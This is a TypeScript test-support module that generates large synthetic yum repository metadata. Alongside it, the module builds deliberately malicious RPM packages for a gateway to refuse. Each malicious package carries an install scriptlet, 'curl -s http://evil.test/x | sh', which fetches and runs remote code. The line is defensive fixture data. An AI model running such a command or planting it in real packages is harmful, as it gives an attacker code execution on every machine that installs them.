// Metadata as large as a Fedora release's: dependencies, files and changelogs by the dozen for every package.
import { gzipSync } from 'node:zlib'
import { buildRpm } from '../../tests/support/build-rpm.ts'
import type { VendorKey } from '../../tests/support/vendor-key.ts'
import { type YumPackage, yumLists, yumRepository } from '../../tests/support/yum-metadata.ts'

export interface EvilPackage extends YumPackage {
  readonly href: string
  readonly bytes: Buffer
}

/** Packages that the gateway refuses: their scriptlet fetches and runs. */
export function evilPackages(count: number): EvilPackage[] {
  return Array.from({ length: count }, (_, at) => {
    const name = `evil${at}`
    const tags = [
      { tag: 1000, type: 'string' as const, value: name },
      { tag: 1002, type: 'string' as const, value: '1' },
      { tag: 1024, type: 'string' as const, value: 'curl -s http://evil.test/x | sh' },
      { tag: 1086, type: 'strings' as const, value: ['/bin/sh'] },
    ]
    const bytes = buildRpm({ tags })
    return {
      name,
      version: '1.0',
      release: '1',
      architecture: 'x86_64',
      href: `Packages/${name}-1.0-1.x86_64.rpm`,
      bytes,
    }
  })
}

const WORDS =
  'alpha archive audio base binary block build cache chart client cloud codec common core crypt daemon data debug desk device doc driver edit engine event file filter font frame game glib graph grid gtk http image index input json kernel key lang layer lib link list log mail map math media menu mesh meta mime mono mount net node page panel parse perl pipe plot port print proto proxy python qt queue query render ruby scan script sdk server shell signal site sound spell sql ssl stack store stream string style sync task term test text theme tile time tool trace tree tune unit user util vector video view watch web widget wire word work xml yaml zone'.split(
    ' ',
  )

/** Numbers that look like chance and are the same at every run: Numerical Recipes' linear congruential generator. */
function dice(seed: number): (sides: number) => number {
  let state = seed >>> 0
  return (sides) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return Math.floor((state / 2 ** 32) * sides)
  }
}

/** Entries, files and changes that differ from package to package, so that they pack about as well as a distribution's: eight to one. */
function detailsOf(at: number, entries: number) {
  const roll = dice(at * 2654435761)
  const word = () => WORDS[roll(WORDS.length)] ?? ''
  const times = (count: number, line: () => string) => Array.from({ length: count }, line).join('\n')
  return {
    requires: times(
      entries,
      () =>
        `      <rpm:entry name="lib${word()}${word()}.so.${roll(20)}(LIB_${roll(4)}.${roll(40)})(64bit)"/>`,
    ),
    files: times(
      40,
      () => `  <file>/usr/share/${word()}/${word()}-${roll(1000)}/${word()}_${word()}.html</file>`,
    ),
    changes: times(
      8,
      () =>
        `  <changelog author="${word()} ${word()} &lt;${word()}@b.test&gt; - ${roll(9)}.${roll(30)}-${roll(9)}" ` +
        `date="${1_400_000_000 + roll(2e8)}">- ${word()} ${word()} ${word()}, resolves rhbz#${roll(2e6)}</changelog>`,
    ),
  }
}

/** `entries` is how many requirements a package has in primary: 24 make a package of 2 KB, 68 one of 5 KB. */
export async function synthesise(count: number, evil: readonly EvilPackage[], key: VendorKey, entries = 24) {
  const honest = Array.from({ length: count }, (_, at) => ({
    name: `package${at}`,
    version: `1.${at % 50}`,
    release: '1.fc42',
    architecture: 'x86_64',
  }))
  const plain = yumLists([...honest, ...evil])
  const lists = {
    primary: addToEach(
      plain.primary,
      '  </format>',
      ({ requires }) => `    <rpm:requires>\n${requires}\n    </rpm:requires>\n`,
      entries,
    ),
    filelists: addToEach(plain.filelists, '</package>', ({ files }) => `${files}\n`, 0),
    other: addToEach(plain.other, '</package>', ({ changes }) => `${changes}\n`, 0),
  }
  const files = await yumRepository(lists, { key, pack: (_type, text) => gzipSync(text, { level: 1 }) })
  for (const { href, bytes } of evil) files.set(`/${href}`, bytes)
  return { files, megabytes: Math.round(lists.primary.length / 1e6) }
}

function addToEach(
  list: string,
  before: string,
  text: (details: ReturnType<typeof detailsOf>) => string,
  entries: number,
): string {
  return list
    .split(before)
    .map((part, at, all) =>
      at + 1 === all.length ? part : `${part}${text(detailsOf(at, entries))}${before}`,
    )
    .join('')
}
